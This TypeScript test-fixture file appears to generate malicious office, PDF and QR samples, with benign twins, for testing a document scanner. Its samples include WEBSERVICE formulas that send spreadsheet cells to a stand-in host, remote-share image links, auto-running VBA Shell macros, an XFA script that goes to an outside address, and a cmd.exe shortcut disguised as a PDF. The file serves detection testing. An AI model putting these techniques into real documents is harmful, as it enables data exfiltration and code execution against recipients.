import { deflateSync } from 'node:zlib'
import {
  macroFolder,
  makeDoc,
  makeDocx,
  makeOdt,
  makePdf,
  makePpt,
  makeRtf,
  makeXlsx,
  nativeStream,
  relationships,
} from '../document/document-samples.ts'
import {
  encryptAgile,
  encryptedXls,
  encryptStandard,
  sheetRecord,
} from '../document/encrypted-samples.ts'
import { makeCompoundFile } from '../formats/compound-sample.ts'
import { makeZip } from '../formats/zip-sample.ts'
import { qrPicture, toJpeg } from '../qr/image-samples.ts'
import { type Sample, sample, type Twin, twin, word } from './sample.ts'
import { makeShortcut } from './shortcuts.ts'

const host = 'http://192.0.2.7'
const share = '\\\\192.0.2.7\\share\\a.png'
const sheet = (formula: string) =>
  makeXlsx({
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row></sheetData></worksheet>`,
  })
const service = (address: string, more = '') =>
  sheet(`_xlfn.WEBSERVICE(&quot;${address}&quot;${more})`)
const field = (text: string) =>
  makeDocx({
    'word/document.xml': `<w:document><w:instrText xml:space="preserve"> ${text} </w:instrText></w:document>`,
  })
const xfa = (event: string, script: string, more = '') => {
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">${more}<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform name="a"><field name="b">${script === '' ? '' : `<event activity="${event}"><script contentType="application/x-javascript">${script}</script></event>`}</field></subform></template></xdp:xdp>`
  return makePdf([
    '<< /Type /Catalog /AcroForm 2 0 R >>',
    '<< /XFA [(preamble) 3 0 R (template) 4 0 R] >>',
    { dictionary: '', stream: '<!-- form -->' },
    { dictionary: '/Filter /FlateDecode', stream: deflateSync(form) },
  ])
}
const link = () =>
  makeShortcut({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/c echo hello' })
const packed = (name: string, content: Buffer) =>
  makeDocx({
    'word/embeddings/oleObject1.bin': makeCompoundFile({
      '\x01Ole10Native': nativeStream(name, content),
    }),
  })
const pptMacro = (source: string) =>
  makePpt(
    makeCompoundFile({ VBA: macroFolder({ Module1: `Attribute VB_Name = "Module1"\n${source}` }) }),
  )
const runs = `Shell "cmd /c calc"`
const macroBook = () => makeXlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' })

/** A page with one image, as scanners make it. */
export function pdfWithImage(image: {
  readonly dictionary: string
  readonly stream: Buffer
  readonly width: number
  readonly height: number
}): Buffer {
  return makePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /Resources << /XObject << /I 4 0 R >> >> >>',
    {
      dictionary: `/Type /XObject /Subtype /Image /Width ${image.width} /Height ${image.height} ${image.dictionary}`,
      stream: image.stream,
    },
  ])
}

const code = (text: string, wrap: 'plain' | 'packed' = 'plain') => {
  const picture = qrPicture(text)
  const stream = toJpeg(picture)
  return pdfWithImage({
    ...picture,
    dictionary: `/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter ${wrap === 'plain' ? '/DCTDecode' : '[/FlateDecode /DCTDecode]'}`,
    stream: wrap === 'plain' ? stream : deflateSync(stream),
  })
}
const action = word('java', 'script:alert(1)')

export const officeTrickSamples = (): Sample[] => [
  sample(
    'image.docx',
    'an image on another machine, as an address',
    'document.share',
    makeDocx({
      'word/_rels/document.xml.rels': relationships(['image', 'file://192.0.2.7/share/a.png']),
    }),
  ),
  sample(
    'webdav.docx',
    'the same by WebDAV',
    'document.share',
    makeDocx({
      'word/_rels/document.xml.rels': relationships(['image', '\\\\files@80\\share\\a.png']),
    }),
  ),
  sample(
    'field-picture.docx',
    'the same by a field',
    'document.share',
    field(`INCLUDEPICTURE "${share.replaceAll('\\', '\\\\')}" \\* MERGEFORMAT`),
  ),
  sample(
    'picture.rtf',
    'the same in RTF',
    'document.share',
    makeRtf(
      `{\\field{\\*\\fldinst {INCLUDEPICTURE "${share.replaceAll('\\', '\\\\\\\\')}"}}{\\fldrslt }}`,
    ),
  ),
  sample(
    'picture.odt',
    'the same in OpenDocument',
    'document.share',
    makeOdt({
      'content.xml':
        '<office:document-content><draw:image xlink:href="file://192.0.2.7/share/a.png"/></office:document-content>',
    }),
  ),
  sample(
    'drawing.xlsx',
    'the same in a workbook',
    'document.share',
    makeXlsx({ 'xl/drawings/_rels/drawing1.xml.rels': relationships(['image', share]) }),
  ),
  sample(
    'service.xlsx',
    'a formula that sends a cell',
    'document.formula-sends',
    service(`${host}/?x=`, '&amp;A2'),
  ),
  sample(
    'range.xlsx',
    'a formula that sends a range',
    'document.formula-sends',
    service('https://collect.example.invalid/?x=', '&amp;_xlfn.TEXTJOIN(",",TRUE,B1:D99)'),
  ),
  sample('beacon.xlsx', 'a formula that calls', 'document.external-query', service(`${host}/open`)),
  sample(
    'service.ods',
    'the same in OpenDocument',
    'document.formula-sends',
    makeZip({
      mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
      'content.xml': `<office:document-content><table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;${host}/?x=&quot;&amp;[.A2])"/></office:document-content>`,
    }),
  ),
  sample(
    'xfa.pdf',
    'a form with a script',
    'document.xfa-script',
    xfa('initialize', 'app.alert("hello")'),
  ),
  sample(
    'xfa-address.pdf',
    'a form that goes elsewhere',
    'document.xfa-script',
    xfa('docReady', `xfa.host.gotoURL("${host}/a")`, '<?templateDesigner x?>'),
  ),
  sample(
    'agile.xlsx',
    'a workbook with the built-in password',
    'document.default-password',
    encryptAgile(macroBook()),
  ),
  sample('standard.xlsx', 'the same, older', 'document.excel4', encryptStandard(macroBook())),
  sample(
    'new.xls',
    'the same, old',
    'document.excel4',
    encryptedXls([sheetRecord('Macro1', 1, true)], 'new'),
  ),
  sample(
    'old.xls',
    'the same, very old',
    'document.excel4',
    encryptedXls([sheetRecord('Macro1', 1)], 'old'),
  ),
  sample(
    'show.ppt',
    'macros that run with the slides',
    'document.macros-start',
    pptMacro(`Sub OnSlideShowPageChange()\n${runs}\nEnd Sub\n`),
  ),
  sample(
    'shell.ppt',
    'macros that start programs',
    'document.macros-run-programs',
    pptMacro(`Sub Go()\n${runs}\nEnd Sub\n`),
  ),
  sample(
    'shortcut.docx',
    'a shortcut in a document',
    'document.embedded-program',
    packed('invoice.lnk', link()),
  ),
  sample(
    'renamed.docx',
    'a shortcut with another name',
    'document.embedded-program',
    packed('invoice.pdf', link()),
  ),
  sample(
    'shortcut.doc',
    'the same in an old document',
    'document.embedded-program',
    makeDoc({ ObjectPool: { _1: { '\x01Ole10Native': nativeStream('scan.pdf', link()) } } }),
  ),
  sample('code.pdf', 'a code to scan', 'qr.runs', code(action)),
  sample('code-packed.pdf', 'the same, packed', 'qr.runs', code(action, 'packed')),
  sample(
    'code.docx',
    'the same in a document',
    'qr.runs',
    makeDocx({ 'word/media/image1.jpeg': toJpeg(qrPicture(action)) }),
  ),
]

export const officeTrickTwins = (): Twin[] => [
  twin(
    'linked.docx',
    'an image on the web',
    makeDocx({
      'word/_rels/document.xml.rels': relationships(
        ['image', 'https://www.example.com/logo.png'],
        ['hyperlink', 'file://fileserver/share/a.docx'],
      ),
    }),
  ),
  twin(
    'company.docx',
    'an image on a server of the company',
    field('INCLUDEPICTURE "\\\\\\\\fileserver\\\\brand\\\\logo.png"'),
  ),
  twin(
    'rates.xlsx',
    'rates of the day',
    service('https://rates.example.com/latest?currency=', '&amp;A2'),
  ),
  twin('sum.xlsx', 'a sum', sheet('SUM(A2:A9)')),
  twin('plain-xfa.pdf', 'a form without a script', xfa('', '')),
  twin(
    'checked-xfa.pdf',
    'a form that checks what is filled in',
    xfa('exit', 'if (this.rawValue == null) xfa.host.messageBox("Please fill in");'),
  ),
  twin(
    'designed-xfa.pdf',
    'a form of an authority',
    xfa('initialize', 'this.rawValue = 1;', '<?originalXFAVersion http://www.xfa.org/?>'),
  ),
  twin(
    'sums.ppt',
    'macros of everyday work',
    pptMacro('Sub Number()\nActivePresentation.Slides(1).Name = "a"\nEnd Sub\n'),
  ),
  twin('table.docx', 'a table in a document', packed('table.csv', Buffer.from('a,b\n1,2\n'))),
  twin('ticket.pdf', 'a code with an address', code('https://www.example.com/ticket/1')),
  twin('protected.xls', 'a protected workbook', encryptedXls([sheetRecord('Sheet1', 0)], 'new')),
]
